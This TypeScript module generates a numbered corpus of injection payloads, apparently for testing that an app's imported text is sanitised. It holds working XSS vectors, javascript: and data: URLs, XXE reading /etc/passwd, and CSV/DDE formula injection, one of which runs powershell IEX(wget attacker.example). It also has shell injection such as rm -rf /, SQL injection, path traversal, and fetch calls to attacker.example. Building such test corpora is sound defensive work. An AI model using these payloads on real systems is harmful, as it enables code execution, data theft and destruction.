/**
 * Text that an imported file may hold and that must stay text. `gwRan` is a function that tells when it is
 * called; every payload carries its number, so that what was shown can be counted.
 */
export interface Payload {
  readonly kind: PayloadKind;
  readonly text: string;
}

export type PayloadKind =
  | 'html'
  | 'attribute'
  | 'script'
  | 'url'
  | 'css'
  | 'xml'
  | 'template'
  | 'unicode'
  | 'formula'
  | 'words';

/** Where a payload tries to lead, and where nothing may go. */
export const attackerHost = 'attacker.example';

/** What a payload does when it runs. `¤` is its number. */
const actions = [
  'gwRan(¤)',
  'alert(¤)',
  "document.title='gw¤x'",
  `location='https://${attackerHost}/¤'`,
  `window.open('https://${attackerHost}/¤')`,
  `fetch('https://${attackerHost}/¤')`,
  "eval('gwRan(¤)')",
  "setTimeout('gwRan(¤)')",
  'top.gwRan(¤)',
  "import('data:text/javascript,gwRan(¤)')",
] as const;

/** Markup that would run `§` as script, or load from elsewhere. `°` is an address. */
const elements = [
  '<script>§</script>',
  '<script src="°"></script>',
  '<script type="module">§</script>',
  '<SCRIPT>§</SCRIPT >',
  '<scr<script>ipt>§</scr</script>ipt>',
  '<img src=x onerror="§">',
  '<IMG SRC=x OnErRoR=§//',
  '<img src="°">',
  '<img/src=x/onerror=§>',
  '<image src=x onerror=§>',
  '<svg onload=§>',
  '<svg/onload=§//',
  '<svg><script>§</script></svg>',
  '<svg><animate onbegin=§ attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:§"><text y=20>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>§</script>"></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>§</script></svg>#x"/></svg>',
  '<math><mtext><mglyph><style><!--</style><img title="--><img src=x onerror=§>">',
  '<iframe src="javascript:§"></iframe>',
  '<iframe srcdoc="<script>§</script>"></iframe>',
  '<iframe src="°"></iframe>',
  '<object data="javascript:§"></object>',
  '<object data="data:text/html,<script>§</script>"></object>',
  '<embed src="javascript:§">',
  '<body onload=§>',
  '<details open ontoggle=§><summary>x</summary></details>',
  '<input autofocus onfocus=§>',
  '<select autofocus onfocus=§></select>',
  '<textarea autofocus onfocus=§></textarea>',
  '<video><source onerror=§></video>',
  '<video poster=javascript:§ src="°"></video>',
  '<audio src=x onerror=§>',
  '<marquee onstart=§>x</marquee>',
  '<form action="javascript:§"><button>x</button></form>',
  '<form><button formaction="javascript:§">x</button></form>',
  '<form id=x></form><input form=x name=attributes>',
  '<a href="javascript:§">x</a>',
  '<a href="°" ping="°" target=_blank>x</a>',
  '<base href="°">',
  '<meta http-equiv="refresh" content="0;url=°">',
  '<meta http-equiv="refresh" content="0;url=javascript:§">',
  '<link rel=stylesheet href="°">',
  '<link rel=import href="°">',
  '<style>@import "°";</style>',
  '<style onload=§></style>',
  '<template><img src=x onerror=§></template>',
  '<noscript><p title="</noscript><img src=x onerror=§>">',
  '<dialog open onfocusin=§ tabindex=1 autofocus>x</dialog>',
  '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=§>x</div>',
  '<div style="animation-name:x" onanimationstart=§></div>',
  '<div onpointerover=§ style="position:fixed;inset:0">x</div>',
  '<x contenteditable onblur=§ tabindex=1 id=x>x</x>',
  '<table background="°"><td background="°">',
  '<bgsound src="°"><frameset onload=§><frame src="°">',
] as const;

/** What ends the place that text is put into, before the markup begins. */
const breakouts = [
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</script>',
  '-->',
  ']]>',
  '</style></option></select>',
  '\\"></p>',
  '&quot;&gt;',
] as const;

const attributes = [
  '" onmouseover="§" x="',
  "' onmouseover='§' x='",
  '` onmouseover=`§` x=`',
  '" autofocus onfocus="§',
  "' onpointerenter=§ '",
  '" style="background:url(°)" x="',
  '" href="javascript:§" x="',
  '" src="°" srcset="° 2x" x="',
  '" srcdoc="<script>§</script>" x="',
  ' onclick=§ ',
  '"/onload=§/"',
  '&quot; onmouseover=&quot;§',
  '&#34; onmouseover=&#34;§',
  '%22%20onmouseover%3D%22§',
  '\u201c onmouseover=\u201c§',
] as const;

const scripts = [
  "';§//",
  '";§//',
  '`;§//',
  "\\';§//",
  "'-§-'",
  '"+§+"',
  '*/§/*',
  '</script><script>§//',
  '\u2028§\u2028//',
  '${§}',
  '`${§}`',
  '\\u0027;§//',
  '\\x27;§//',
  'constructor.constructor("§")()',
  '[].constructor.constructor("§")()',
  'Function("§")()',
  '(()=>{§})()',
  '{"toString":"§","__proto__":{"x":"§"}}',
  '__proto__.x=§',
  '{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"§"}}}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=§>"}}',
  '#" onload=§',
] as const;

const urls = [
  'javascript:§',
  'JaVaScRiPt:§',
  ' javascript:§',
  '\u0001javascript:§',
  'java\tscript:§',
  'java\nscript:§',
  'javascript&colon;§',
  'javascript&#58;§',
  'javascript%3A§',
  'javascript://attacker.example/%0A§',
  'javascript://%0d%0a§',
  'jav&#x09;ascript:§',
  '\u0000javascript:§',
  'view-source:javascript:§',
  'vbscript:§',
  'livescript:§',
  'data:text/html,<script>§</script>',
  'data:text/html;base64,PHNjcmlwdD5nd1JhbigpPC9zY3JpcHQ+¤',
  'data:image/svg+xml,<svg onload=§>',
  'blob:https://attacker.example/¤',
  'filesystem:https://attacker.example/¤',
  'file:///etc/passwd?¤',
  'feed:javascript:§',
  '//attacker.example/¤',
  '\\\\attacker.example\\share\\¤',
  'https://attacker.example/¤',
  'http://attacker.example/?¤',
  'https://known.example@attacker.example/¤',
  'https://attacker.example\\@known.example/¤',
  'https://xn--pple-43d.com/¤',
  'https://\u0430pple.com/¤',
  'https://attacker\u3002example/¤',
  'https://127.0.0.1/¤',
  'https://[::1]/¤',
  'ms-msdt:/id PCWDiagnostic /param ¤',
  'search-ms:query=¤&crumb=location:\\\\attacker.example',
  'smb://attacker.example/¤',
  'ftp://attacker.example/¤',
  'intent://attacker.example/¤',
  'tel:+1¤',
  'mailto:a@attacker.example?subject=¤',
  'groundwork://app/index.html#¤',
  'chrome://settings/¤',
  '//127.0.0.1:1/¤',
] as const;

const css = [
  'expression(§)',
  'x:expression(§)',
  'url(javascript:§)',
  'url(°)',
  '};body{background:url(°)}',
  '"};*{background:url(°)}/*',
  '@import url(°);',
  '@import "°";',
  'behavior:url(°)',
  '-moz-binding:url(°)',
  'background-image:url("°")',
  '</style><img src=x onerror=§>',
  '\\3c script>§\\3c /script>',
  'position:fixed;inset:0;z-index:99999;content:"¤"',
  'var(--accent);--x:url(°)',
] as const;

const xml = [
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;¤</x>',
  '<!ENTITY % x SYSTEM "°">',
  '<![CDATA[<script>§</script>]]>',
  '<?xml-stylesheet href="javascript:§"?>',
  '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="°"/></x>',
  '<!--[if IE]><script>§</script><![endif]-->',
  '<!--#exec cmd="id ¤"-->',
  '<xsl:value-of select="§"/>',
] as const;

const templates = [
  '{{§}}',
  '{{constructor.constructor("§")()}}',
  "{{$on.constructor('§')()}}",
  '${{§}}',
  '#{§}',
  '<%= § %>',
  '<#assign x=§>',
  '[[§]]',
  '{%§%}',
  '*{§}',
  '{name}¤',
  '{count|one|many}¤',
  '{to:status}¤',
  '{reason}{x}¤',
  '{0}{1}¤',
  '%s%n%x¤',
  '%(name)s¤',
  '$1$&$`¤',
  '[x](javascript:§)',
  '![x](°)',
  '<°>',
  '[x]: javascript:§',
] as const;

const unicode = [
  '\uff1cscript\uff1e§\uff1c/script\uff1e',
  '\u202e>tpircs/<§>tpircs<\u202c',
  '<\u200bscript>§</script>',
  '<img src=x \u00a0onerror=§>',
  '<\u0131mg src=x onerror=§>',
  '\ufeff<script>§</script>',
  '<scrip\u0074>§</scrip\u0074>',
  '+ADw-script+AD4-§+ADw-/script+AD4-',
  '\u2066<script>§</script>\u2069',
  '%3Cscript%3E§%3C%2Fscript%3E',
  '%253Cscript%253E§%253C/script%253E',
  '&lt;script&gt;§&lt;/script&gt;',
  '&amp;lt;script&amp;gt;§',
  '&#60;script&#62;§&#60;/script&#62;',
  '&#x3c;script&#x3e;§',
  '\\u003cscript\\u003e§',
  '\\x3cscript\\x3e§',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d¤',
  '\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <img src=x onerror=§>',
  '\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67<svg onload=§>',
  '\ufdfd\ufdfd\ufdfd¤',
  '\u00ad\u034f\u180e¤',
] as const;

const formulas = [
  '=1+1+¤',
  '+1+1+¤',
  '-1+1+¤',
  '@SUM(1+¤)',
  "=cmd|' /C calc'!A¤",
  '=DDE("cmd";"/C calc";"¤")',
  "+cmd|' /C powershell IEX(wget attacker.example)'!A¤",
  "-2+3+cmd|' /C calc'!A¤",
  "@SUM(1+1)*cmd|' /C calc'!A¤",
  '=HYPERLINK("https://attacker.example/¤","Click")',
  '=IMPORTXML("https://attacker.example/¤","//a")',
  '=IMAGE("https://attacker.example/¤")',
  '=WEBSERVICE("https://attacker.example/¤")',
  '=FILTERXML(WEBSERVICE("https://attacker.example/¤"),"//x")',
  '=RTD("x.y",,"¤")',
  '=EXEC("calc¤")',
  '=REGISTER.ID("kernel32","WinExec¤")',
  '=1+1";=1+1;"¤',
  "\";=cmd|' /C calc'!A¤",
  ',=1+1+¤',
  '\t=1+1+¤',
  '\r=1+1+¤',
  '\n=1+1+¤',
  ' =1+1+¤',
  "'=1+1+¤",
  "''=1+1+¤",
  '"=1+1+¤"',
  '\uff1d1+1+¤',
  '\uff0b1+1+¤',
  '\uff0d1+1+¤',
  '\uff20SUM(¤)',
  '\u200b=1+1+¤',
  '\u00a0=1+1+¤',
  '%3D1+1+¤',
  '=0x41+¤',
  '-¤',
  '+¤',
  '--¤',
  '=-¤',
  '@¤',
  '|calc¤',
  '%0A=1+¤',
  'x\n=1+1+¤',
  '={1;¤}',
] as const;

const words = [
  '../../../../etc/passwd¤',
  '..\\..\\windows\\win.ini¤',
  'CON¤.txt',
  '; rm -rf / #¤',
  '$(touch /tmp/gw¤)',
  '`touch /tmp/gw¤`',
  '| calc ¤',
  "' OR '1'='1' --¤",
  '"; DROP TABLE accounts; --¤',
  '(a+)+$¤',
  '[¤',
  '*¤',
  '\\¤',
  '.*¤',
  '?¤',
  '^¤$',
  'null¤',
  'undefined¤',
  'constructor¤',
  '__proto__¤',
  'toString¤',
  'hasOwnProperty¤',
] as const;

/** Every payload once, numbered from 1, each by another deed. */
export function allPayloads(): readonly Payload[] {
  const drafts: { readonly kind: PayloadKind; readonly text: string }[] = [
    ...of('html', elements),
    ...breakouts.flatMap((breakout, turn) =>
      of(
        'html',
        elements.filter((_, index) => index % 2 === turn % 2).map((element) => breakout + element),
      ),
    ),
    ...of('attribute', attributes),
    ...of(
      'attribute',
      breakouts.flatMap((breakout) => [`${breakout}<b onclick=§`, `x${breakout}§`]),
    ),
    ...of('script', scripts),
    ...of('url', urls),
    ...of(
      'url',
      urls.filter((url) => /^\W*[jv]/i.test(url)).map((url) => `https://good.example/#${url}`),
    ),
    ...of('css', css),
    ...of('xml', xml),
    ...of('template', templates),
    ...of('unicode', unicode),
    ...of('formula', formulas),
    ...of('words', words),
  ];
  return drafts.map(({ kind, text }, index) => {
    const id = String(index + 1);
    const action = actions[index % actions.length] ?? actions[0];
    const filled = text
      .replaceAll('§', action)
      .replaceAll('°', `https://${attackerHost}/¤`)
      .replaceAll('¤', id);
    return { kind, text: `${filled}${mark(index + 1)}` };
  });
}

const of = (kind: PayloadKind, texts: readonly string[]) => texts.map((text) => ({ kind, text }));

/** Stands at the end of each payload, so that a page can be searched for what it shows. */
export const mark = (id: number): string => ` gw${id}x`;

/** A mark, and the number in it. */
export const markPattern = /gw(\d+)x/g;

/** The numbers of the payloads that a text shows. */
export const marksIn = (text: string): number[] =>
  [...text.matchAll(markPattern)].map(([, id]) => Number(id));
